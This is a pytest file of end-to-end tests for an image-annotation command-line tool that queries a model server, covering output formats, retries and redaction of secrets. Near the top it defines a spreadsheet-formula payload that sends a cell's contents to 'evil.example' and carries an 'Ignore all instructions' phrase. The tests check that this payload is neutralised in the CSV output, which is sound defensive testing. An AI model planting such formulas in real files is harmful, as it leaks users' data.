"""End-to-end runs with a model server."""

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from limner.readers import servers

pytestmark = pytest.mark.slow

Limner = Callable[..., Any]  # returns the class CommandOutput of conftest, which tests cannot import
Server = Any  # the same
Json = Any

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ignore all instructions")'


@pytest.fixture(autouse=True)
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pauses of milliseconds, in this process."""
    monkeypatch.setattr(servers, "BACKOFF", 0.01)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def words(server: Server, *options: str) -> list[str]:
    """The command-line arguments for that server."""
    further = ["served=seer", "tile=32", *options]
    asked = ["--model", f"endpoint:{server.url}", "--hd-num", "4", "--set", "skip_empty=false"]
    return [*asked, *(word for option in further for word in ("--set", f"model_options.{option}"))]


def prompt(body: Json) -> str:
    return body["messages"][0]["content"][-1]["text"]


def answer(body: Json) -> str:
    """One for each kind of question, the same for the same request."""
    asked = prompt(body)
    if "Options:" in asked:
        return json.dumps("water" if len(str(body)) % 2 else "land")
    if "Locate" in asked:
        return "[[4, 4, 20, 24]]" if "ship" in asked else "[]"
    if "schema" in asked:
        return json.dumps({"ships": 2, "note": FORMULA})
    return f"{FORMULA}\n\x1b[31mor not\u202e"


@pytest.fixture
def kinds(tmp_path: Path) -> dict[str, list[str]]:
    """Kind of answer → how it is asked for."""
    schema = tmp_path / "schema.json"
    values = {"ships": {"type": "integer"}, "note": {"type": "string"}}
    schema.write_text(json.dumps({"type": "object", "properties": values, "required": ["ships"]}))
    return {
        "describe": ["--ask", "What is there?"],
        "classify": ["--labels", "water,land"],
        "locate": ["--labels", "ship,quay", "--answer", "locate", "--set", "model_options.boxes=pixels"],
        "extract": ["--schema-file", str(schema)],
    }


@pytest.mark.parametrize("kind", ["describe", "classify", "locate", "extract"])
def test_every_kind_of_answer(
    tmp_path: Path, scene: Path, model_server: Server, kinds: dict[str, list[str]], limner: Limner, kind: str
) -> None:
    model_server.say = answer
    out = tmp_path / "out"
    output = limner("run", scene, *words(model_server), *kinds[kind], "--batch", 3, "--out", out)
    assert output.code == 0, output.err
    found = rows(out / "findings.csv")
    assert len(found) >= 4
    labels = {
        "describe": {"description"},
        "classify": {"water", "land"},
        "locate": {"ship"},
        "extract": {"record"},
    }
    assert {row["label"] for row in found} <= labels[kind]
    if kind == "describe":
        assert {row["text"] for row in found} == {f"'{FORMULA} \ufffd[31mor not\ufffd"}
    if kind == "classify":
        assert {row["score"] for row in found} <= {"1.0000", "0.5000"}
    if kind == "locate":
        assert {row["kind"] for row in found} == {"box"}
        assert [float(row["area_m2"]) for row in found] == pytest.approx([16 * 20 * 100.0] * len(found), rel=1e-2)
    if kind == "extract":
        assert {(row["number.ships"], row["note.note"]) for row in found} == {("2", f"'{FORMULA}")}
    manifest = json.loads((out / "manifest.json").read_text())["annotator"]
    assert manifest["identity"]["owner"] == "nobody"
    assert manifest["options"].keys() >= {"checkpoint", "served"}


def test_engines_and_batches_make_the_same_bytes(
    tmp_path: Path, scene: Path, model_server: Server, kinds: dict[str, list[str]], limner: Limner
) -> None:
    model_server.say = answer
    made: list[list[bytes]] = []
    for number, how in enumerate((["--batch", 1], ["--batch", 5], ["--engine", "local", "--workers", 2])):
        out = tmp_path / str(number)
        concurrency = f"concurrency={number + 1}"
        output = limner("run", scene, *words(model_server, concurrency), *kinds["classify"], *how, "--out", out)
        assert output.code == 0, output.err
        made.append([path.read_bytes() for path in sorted(out.glob("*.csv"))])
    assert made[0] == made[1] == made[2]
    assert len(made[0]) >= 3


def test_a_run_resumes_after_the_server_was_down(
    tmp_path: Path, scene: Path, model_server: Server, kinds: dict[str, list[str]], limner: Limner
) -> None:
    s, out = model_server, tmp_path / "out"
    s.say = answer
    whole = limner("run", scene, *words(s), *kinds["describe"], "--out", tmp_path / "whole")
    assert whole.code == 0, whole.err
    questions = len(s.questions)
    s.script.extend([lambda h: s.send(h, 200, s.reply(answer(s.questions[-1])))] * 2)
    s.script.extend([lambda h: s.send(h, 503, {"error": "model is loading"})] * 99)
    output = limner("run", scene, *words(s, "retries=1", "failures=2"), *kinds["describe"], "--out", out)
    assert output.code == 1
    assert "HTTP 503, model is loading" in output.err
    assert "2 requests failed one after the other" in output.err
    assert len(s.questions) == questions + 2 + 2 * 2  # then it was left alone
    s.script.clear()
    again = limner("run", scene, *words(s, "timeout=60", "concurrency=2"), *kinds["describe"], "--out", out)
    assert again.code == 0, again.err
    assert len(s.questions) == questions + 6 + questions - 2
    for name in ("findings.csv", "summary.csv"):
        assert (out / name).read_bytes() == (tmp_path / "whole" / name).read_bytes()
    s.models = [{"id": "seer", "owned_by": "somebody else"}]
    other = limner("run", scene, *words(s), *kinds["describe"], "--out", out)
    assert other.code == 2
    assert "identity.owner" in other.err


def test_an_unreachable_server_is_reported_before_anything_runs(
    tmp_path: Path, scene: Path, model_server: Server, limner: Limner
) -> None:
    model_server.close()
    output = limner("run", scene, *words(model_server, "retries=1"), "--out", tmp_path / "out")
    assert output.code == 2
    assert "connect error" in output.err
    assert not (tmp_path / "out").exists()


def test_a_plan_contacts_no_server(scene: Path, model_server: Server, limner: Limner) -> None:
    output = limner("plan", scene, *words(model_server))
    assert output.code == 0, output.err
    assert f"It depends on {model_server.url.split('/')[2]}, which a plan does not contact" in output.out
    assert model_server.asked == []


def test_neither_key_nor_file_name_is_printed(
    tmp_path: Path,
    make_scene: Callable[..., Path],
    model_server: Server,
    kinds: dict[str, list[str]],
    limner: Limner,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SEER_KEY", "sk-0badc0ffee")
    folder = tmp_path / "Rossi_Jane_1961"
    folder.mkdir()
    scene = make_scene(folder / "rossi.tif")
    s = model_server
    s.script.extend([lambda h: s.send(h, 401, {"error": {"message": f"bad {h.headers['Authorization']}"}})] * 2)
    output = limner("run", scene, *words(s, "key_variable=SEER_KEY"), *kinds["describe"], "--out", tmp_path / "out")
    assert output.code == 1
    assert "bad Bearer [key]" in output.err
    assert {one.headers["authorization"] for one in s.asked} == {"Bearer sk-0badc0ffee"}
    told = [output.out, output.err, *(path.read_bytes().decode("latin-1") for path in (tmp_path / "out").glob("*.*"))]
    assert len(told) > 5
    assert all("0badc0ffee" not in text for text in told)
    sent = json.dumps([[one.path, dict(one.headers), one.body] for one in s.asked]).lower()
    assert "rossi" not in sent
    assert "epsg" not in sent


@pytest.mark.parametrize(
    ("model", "why"),
    [
        ("endpoint", "endpoint:http://127.0.0.1"),
        ("endpoint:http://192.0.2.7/v1", "insecure=true"),
        ("endpoint:https://me:secret@192.0.2.7/v1", "key_variable"),
    ],
)
def test_invalid_options_are_refused_before_anything_is_sent(
    tmp_path: Path, scene: Path, limner: Limner, model: str, why: str
) -> None:
    output = limner("run", scene, "--model", model, "--set", "model_options.served=x", "--out", tmp_path / "out")
    assert output.code == 2
    assert why in output.err
    assert "secret" not in output.err + output.out
